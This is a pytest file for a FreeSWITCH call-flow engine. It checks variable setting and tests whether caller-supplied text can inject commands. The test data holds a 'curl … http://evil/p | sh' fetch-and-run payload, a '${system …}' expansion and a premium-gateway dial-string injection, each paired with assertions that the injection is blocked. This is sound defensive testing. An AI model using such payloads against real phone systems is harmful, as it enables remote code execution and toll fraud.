"""A set made by ``api uuid_setvar`` (no event reports it) is read by the flow as it was set,
until FreeSWITCH next reports the channel's variables: the steps after it see the new value,
with its call-data marks, so every encoder still applies (each case ran wrong before)."""

from __future__ import annotations

import pytest

from flowengine.call import Timeouts
from flowengine.call.flow_call import FlowCall
from flowengine.esl import Event, Parser
from flowengine.flows.flowset import FlowSet
from flowengine.replay.command_reader import CommandReader
from flowengine.replay.fake import ReplayFreeSwitch, ReplayMismatch
from flowengine.testing.memory import converse
from flowengine.testing.scripted import ScriptedFreeSwitch

from .conftest import load
from .flowkit import flow_from
from .freeswitch_model import chars, expand_passes, parse_dial_string
from .test_execute_call_data import unchecked
from .test_flow_call import SET_THEN_PLAY, Tap, flow_call

TIMEOUTS = Timeouts(connect=5, reply=5, execute=60, drain=2)


def call_with(text: str, caller_name: str = "Alice", peer: type = ScriptedFreeSwitch, *, checked: bool = True,
              **scripted) -> tuple[FlowCall, list]:
    flow = flow_from(text) if checked else unchecked(text)
    tap = Tap(peer(destination="1000", caller_name=caller_name, **scripted))
    call = FlowCall(lambda: FlowSet({flow.name: flow}, default=flow), TIMEOUTS, run_options={"trace": True})
    converse(call, tap)
    return call, CommandReader().feed(b"".join(tap.writes))


def test_a_condition_right_after_a_set_reads_the_new_value():
    call, commands = call_with("""
name: s
numbers: ["1000"]
start: pick
steps:
  pick: {set: {lang: en}, next: check}
  check:
    when: [{if: {var: lang, equals: en}, goto: english}]
    else: other
  english: {playback: ivr/en/yes.wav, next: bye}
  other: {playback: ivr/no.wav, next: bye}
  bye: {hangup: NORMAL_CLEARING}
""", "Alice")
    assert any(c.setvar() and c.setvar()[1:] == ("lang", "en") for c in commands)
    assert ("check", "when[0]") in call.run.outcomes
    assert [c.app_arg for c in commands if c.app == "playback"] == ["ivr/en/yes.wav"]


def test_a_value_set_from_the_call_is_still_data_in_the_next_dial_string():
    call, commands = call_with("""
name: s
numbers: ["1000"]
start: keep
steps:
  keep: {set: {target_ext: "${caller_id_name}"}, next: dial}
  dial: {bridge: "user/${target_ext}", on: {answered: bye}, next: bye}
  bye: {hangup: NORMAL_CLEARING}
""", "1001,sofia/gateway/premium/19005550100")
    for c in commands:
        if c.app == "bridge":   # whatever went out rings one target, never the premium gateway
            assert len(parse_dial_string(chars(c.app_arg, "sent")).legs) == 1, c.app_arg
    assert "premium" not in " ".join(c.app_arg for c in commands if c.app == "bridge")
    assert call.run.result == "error" or not [c for c in commands if c.app == "bridge"]


def test_two_values_set_from_the_call_joined_in_a_third_set_run_no_api():
    call, commands = call_with("""
name: s
numbers: ["1000"]
start: halves
steps:
  halves: {set: {fa: "${caller_id_name:0:1}", fb: "${caller_id_name:1}"}, next: join}
  join: {set: {greeting: "${fa}${fb}"}, next: bye}
  bye: {hangup: NORMAL_CLEARING}
""", "${system touch /tmp/pwned}")
    for c in commands:
        if c.app == "set":
            _, found = expand_passes(chars(c.app_arg, "sent"), 2, lambda name: None)
            assert not [e for e in found if e.kind == "api"], c.app_arg
        assert "${fa}" not in c.line + c.app_arg
    # and FreeSWITCH ends with the caller's text as the variable's value, not its effect
    assert call.run.result == "hangup"


def test_a_set_freeswitch_did_not_make_is_the_steps_error():
    """uuid_setvar answers +OK or why it set nothing (mod_commands.c): the flow's on_error
    runs, as for a refused application — from the step running when the answer comes (the
    set itself went on without waiting; FreeSWITCH refuses one only for a channel it no
    longer has)."""
    from flowengine.esl.serialize import api_response

    class Refuses(ScriptedFreeSwitch):
        def _setvar(self, args):
            return api_response("-ERR No such channel!\n")

    call, _ = call_with("""
name: s
numbers: ["1000"]
start: note
on_error: sorry
steps:
  note: {set: {note: hello}, next: bye}
  sorry: {playback: ivr/sorry.wav, next: bye}
  bye: {hangup: NORMAL_CLEARING}
""", peer=Refuses)
    assert call.run.visited[:3] == ["note", "bye", "sorry"], call.run.visited
    assert call.run.outcomes[0] == ("note", "done")


def test_a_profile_name_set_by_the_flow_reads_the_same_before_and_after_the_next_event():
    """FreeSWITCH reads ${caller_id_name} from a channel variable of that name first, then
    from the caller profile (switch_channel_get_variable_dup): so does the flow, whether the
    set is still unreported or an event has shown it since."""
    call, commands = call_with("""
name: s
numbers: ["1000"]
start: rename
steps:
  rename: {set: {caller_id_name: Bob}, next: first}
  first: {playback: "ivr/${caller_id_name}.wav", next: second}
  second: {playback: "ivr/${caller_id_name}.wav", next: bye}
  bye: {hangup: NORMAL_CLEARING}
""", "Alice")
    assert [c.app_arg for c in commands if c.app == "playback"] == ["ivr/Bob.wav", "ivr/Bob.wav"]


def test_a_replay_takes_a_set_by_api_for_the_recorded_set_of_the_same_value_only():
    """dtmf_stops_playback recorded ``set playback_terminators=#``: the replay answers the
    api's +OK and leaves out the set application's reply and execute events, and refuses
    an api that sets anything else."""
    recorded = load("dtmf_stops_playback")
    uuid = Parser().feed(recorded.chunks("in")[0])[0].channel.unique_id
    replay = ReplayFreeSwitch(recorded)
    for out in recorded.chunks("out")[:4]:   # connect, myevents, linger, answer: as recorded
        replay.receive(out)
    setvar = f"api uuid_setvar {uuid} playback_terminators #\n\n".encode()
    answers = b"".join(chunk for _, chunk in replay.receive(setvar))
    messages = Parser().feed(answers)
    assert messages and type(messages[0]).__name__ == "ApiResponse" and messages[0].body == "+OK\n"
    assert not [m for m in messages[1:] if type(m).__name__ == "Reply"]
    assert not [m for m in messages if isinstance(m, Event) and m.get("Application") == "set"]
    other = ReplayFreeSwitch(recorded)
    for out in recorded.chunks("out")[:4]:
        other.receive(out)
    with pytest.raises(ReplayMismatch):
        other.receive(f"api uuid_setvar {uuid} playback_terminators *\n\n".encode())


def test_without_full_control_a_set_is_the_application_and_the_hangup_nixes_nothing():
    """api and nixevent need ``socket … full`` (mod_event_socket.c refuses both to a
    single-channel socket): without it the set is FreeSWITCH's set application."""
    flow = flow_from(SET_THEN_PLAY)
    peer = ScriptedFreeSwitch(destination="1000")

    class SingleChannel(Tap):
        def receive(self, data):
            return [(gap, chunk.replace(b"Control: full", b"Control: single-channel"))
                    for gap, chunk in super().receive(data)]

    tap = SingleChannel(peer)
    call = flow_call(FlowSet({"setplay": flow}, default=flow))
    converse(call, tap)
    assert call.proto.control == "single-channel"
    assert tap.words()[-3:] == ['set "playback_terminators=#"', 'playback "ivr/welcome.wav"',
                                'hangup "NORMAL_CLEARING"']
    assert call.run.outcomes[-2:] == [("welcome", "played"), ("bye", "hangup")]


def test_a_set_goes_by_api_only_before_the_first_application_of_its_write():
    """An api runs at once in FreeSWITCH's listener thread, applications later in the
    session's: a set written after an application could overtake it, so it is that
    application's neighbour, not an api."""
    from flowengine.call.batching import collect
    from flowengine.flows.effects import Execute

    class Run:   # what collect reads of a run: resume() gives the next command
        def __init__(self, commands):
            self.commands = iter(commands)
            self.unreported: dict = {}

        def resume(self, _result):
            return next(self.commands, None)

        def set_unreported(self, name, value):
            self.unreported[name] = value

    first = Execute("set", "a=1", variable=("a", "1"))
    rest = [Execute("unset", "b", wait=False), Execute("set", "c=2", wait=False, variable=("c", "2")),
            Execute("playback", "ivr/welcome.wav")]
    run = Run(rest)
    batch, after, request, direct = collect(run, first, None, lambda command: b"api")
    assert [command for command, _ in direct] == [first]
    assert batch == rest and after == "resume" and request is None
    assert run.unreported == {"a": "1"}      # the run reads it as set: no event will say so


KEEP_NAME = """
name: s
numbers: ["1000"]
start: keep
steps:
  keep: {set: {who: "${caller_id_name}", line: "said ${caller_id_name}"}, next: bye}
  bye: {hangup: NORMAL_CLEARING}
"""


@pytest.mark.parametrize("control", ["full", "single-channel"])
def test_a_caller_name_spelling_an_array_is_stored_as_text_by_api_and_by_application(control):
    """FreeSWITCH stores a variable through its event header code (switch_channel.c →
    switch_event.c): ``ARRAY::hello`` would be stored as ``hello``, whether set by the set
    application or by uuid_setvar (argument_in_body). The name ``%41RRAY::hello`` arrives as
    the text it is, and a name spelling ``ARRAY::`` is stored with a space for its last ':';
    a line break in it as a space. Both ways store the same."""
    results = {}
    for raw in ("%41RRAY::hello", "ARRAY::hello\nx"):
        peer = ScriptedFreeSwitch(destination="1000", caller_name=raw)

        class Channel(Tap):
            def receive(self, data):
                return [(gap, chunk.replace(b"Control: full", f"Control: {control}".encode()))
                        for gap, chunk in super().receive(data)]

        tap = Channel(peer)
        call = FlowCall(lambda: FlowSet({"s": flow_from(KEEP_NAME)}, default=flow_from(KEEP_NAME)), TIMEOUTS)
        converse(call, tap)
        commands = CommandReader().feed(b"".join(tap.writes))
        by_api = any(c.setvar() for c in commands)
        assert by_api == (control == "full")
        results[raw] = (peer.vars["who"], peer.vars["line"])
    assert results == {"%41RRAY::hello": ("%41RRAY::hello", "said %41RRAY::hello"),
                       "ARRAY::hello\nx": ("ARRAY: hello x", "said ARRAY::hello x")}


HOOKS = """
name: s
numbers: ["1000"]
start: hook
steps:
  hook: {set: {api_hangup_hook: "system /usr/local/bin/notify ${caller_id_name}"}, next: bye}
  bye: {hangup: NORMAL_CLEARING}
"""


@pytest.mark.parametrize("caller_name", ["x; curl -s http://evil/p | sh", "Alice"])
def test_a_variable_freeswitch_runs_is_set_neither_by_api_nor_by_the_application(caller_name):
    """api_hangup_hook runs at hangup (switch_core_state_machine.c api_hook): no caller's
    name gets there, by uuid_setvar or by the set application; the step fails."""
    call, commands = call_with(HOOKS, caller_name, checked=False)   # --check refuses it: the call must too
    hooks = [c.line for c in commands if (c.setvar() or ("", "", ""))[1] == "api_hangup_hook"
             or (c.app == "set" and c.app_arg.startswith("api_hangup_hook="))]
    assert hooks == []
    assert call.run.result == "error"


def test_the_authors_own_hook_is_still_set():
    call, commands = call_with(HOOKS.replace("${caller_id_name}", "hangup"), "x; curl -s http://evil/p | sh")
    assert any(c.setvar() and c.setvar()[1:] == ("api_hangup_hook", "system /usr/local/bin/notify hangup")
               for c in commands)
